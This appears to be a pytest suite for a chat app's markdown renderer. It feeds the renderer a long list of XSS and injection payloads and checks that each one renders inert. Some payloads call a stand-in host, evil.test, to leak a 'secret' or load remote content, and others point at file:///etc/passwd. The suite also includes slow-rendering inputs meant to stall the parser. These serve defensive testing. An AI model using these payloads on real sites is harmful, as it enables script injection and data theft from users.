"""What a model writes is shown as text, never run, and never reaches another server."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest

from conversations import markdown
from conversations.blocks import BlockStream
from conversations.markdown import ATTRIBUTES, TAGS, render_blocks

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.test/?q=secret'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<style>@import 'http://evil.test/x.css';</style>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.test'>",
    "<base href=http://evil.test/>",
    "<form action=http://evil.test><button>x</button></form>",
    "<object data=http://evil.test/x.swf></object>",
    "<embed src=http://evil.test/x.swf>",
    "<video src=http://evil.test/x.mp4 autoplay></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<div style='background:url(http://evil.test/x)'>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<template><script>alert(1)</script></template>",
    "<button class=copy onclick=alert(1)>x</button>",
    "</div></article><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](/admin/logout/)",
    "[x](//evil.test/)",
    "[x](\\\\evil.test)",
    '[x](http://a" onmouseover="alert(1))',
    "[x](http://a 'x\" onmouseover=\"alert(1)')",
    "<javascript:alert(1)>",
    '<http://a"onmouseover=alert(1)>',
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](http://evil.test/?q=secret)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x"onerror="alert(1)](http://evil.test)',
    "[![x](http://evil.test/a.png)](javascript:alert(1))",
    "![<img src=x onerror=alert(1)>](http://evil.test)",
    "```<script>alert(1)</script>\ncode\n```",
    '```"onmouseover="alert(1)\ncode\n```',
    "```html\n<script>alert(1)</script>\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "|<script>alert(1)</script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|c|",
    '|a|\n|:-:" onmouseover="alert(1)|\n|b|',
    "- <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "**<script>**alert(1)**</script>**",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
]


class Inventory(HTMLParser):
    """Notes every element and attribute of a document."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))


def assert_inert(html: str) -> None:
    inventory = Inventory()
    inventory.feed(html)
    for tag, attributes in inventory.seen:
        assert tag in TAGS
        assert attributes.keys() <= ATTRIBUTES.get(tag, set()) | ({"rel", "target"} if tag == "a" else set())
        if tag == "a" and "href" in attributes:
            assert re.match(r"(https?|mailto):", attributes["href"] or "")
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert attributes["target"] == "_blank"


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_inert_however_it_comes(text: str) -> None:
    assert_inert("".join(render_blocks(text)))
    stream = BlockStream()
    for character in text:
        stream.feed(character)
        assert_inert("".join(stream.blocks))


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("# Title", "<h3>Title</h3>"),
        ("a\nb", "<p>a<br>\nb</p>"),
        ("~~gone~~", "<p><s>gone</s></p>"),
        ("3. c", '<ol start="3">\n<li>c</li>\n</ol>'),
        ("![cat](http://a/b.png)", '<p><a href="http://a/b.png"'),
        ("|a|\n|-:|\n|1|", '<th class="right">a</th>'),
        ("```nonsense\n<x>\n```", '<pre tabindex="0"><code>&lt;x&gt;\n</code></pre>'),
        ("```python\nx = 1\n```", '<span class="n">x</span>'),
        ("```\nplain\n```", '<div class="code-head"><span>text</span>'),
        (r"So \(a_1 * b_1\) is", r"<p>So <code>\(a_1 * b_1\)</code> is</p>"),
        ("\\[\na \\\\\n<b>\n\\]", "<p><code>\\[\na \\\\\n&lt;b&gt;\n\\]</code></p>"),
        (r"$$\frac{a}{b}$$", r"<p><code>$$\frac{a}{b}$$</code></p>"),
        (r"\(open and \*\* that", "<p>(open and ** that</p>"),
        (r"`\(code\)` and $$$$ and $5", r"<p><code>\(code\)</code> and $$$$ and $5</p>"),
    ],
)
def test_markdown_is_rendered(text: str, html: str) -> None:
    assert html in "".join(render_blocks(text))


def test_very_long_code_is_not_highlighted() -> None:
    (block,) = render_blocks("```python\n" + "x = 1\n" * 10_000 + "```")
    assert 'class="n"' not in block


def test_usual_code_and_tables_are_shown_with_all_that_belongs_to_them() -> None:
    code = "".join(f"def function_{n}(self, given: int) -> int:  # of {n}\n" for n in range(300))
    (block,) = render_blocks(f"```python\n{code}```")
    assert block.count('<span class="k">def</span>') == 300
    (block,) = render_blocks("|a|b|c|\n|-|-|-|\n" + "|1|**2**|[3](http://a)|\n" * 300)
    assert block.count("<td>") == 900
    assert block.count("<strong>") == block.count("<a ") == 300


SLOW = {
    "brackets": "[" * 50_000,
    "code": "```csharp\n" + "plain words of no meaning\n" * 750 + "```",
    "links": "[a](" * 15_000,
    "cells": "|" * 1000 + "\n" + "|-" * 999 + "|\n" + "|a\n" * 6000,
    "many tables": ("|" * 100 + "\n" + "|-" * 99 + "|\n" + "|\n" * 45 + "\n") * 60,
    "half tables": "-|-\n" * 10_000,
    "half formulas": r"\(x" * 12_000,
    "stars": "*a " * 10_000,
    "quotes": "> " * 5_000,
    "columns": "|a" * 5_000 + "\n" + "|-" * 5_000,
}


@pytest.mark.parametrize("text", SLOW.values(), ids=SLOW.keys())
def test_text_made_to_be_slow_is_rendered_in_time(text: str) -> None:
    started = time.thread_time()
    shown = "".join(render_blocks(text))
    # Half a second at most; without bounds it is ten seconds and more for most of them.
    assert time.thread_time() - started < 5
    assert len(shown) < 20 * len(text)
    assert_inert(shown)


def test_what_is_too_slow_is_shown_as_it_was_written() -> None:
    slow = SLOW["brackets"]
    first, code, second = render_blocks(f"{slow}\n\n{SLOW['code']}\n\n*Now*")
    assert first == f"<p>{slow}</p>\n"
    assert "<span>csharp</span>" in code
    assert code.count("plain words of no meaning") == 750
    assert second == "<p><em>Now</em></p>\n"


def test_a_text_of_slow_blocks_has_a_bound_of_its_own(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markdown, "TEXT_SECONDS", 0.1)
    assert render_blocks("[" * 50_000 + "\n\n*Now*")[1] == "<p>*Now*</p>\n"
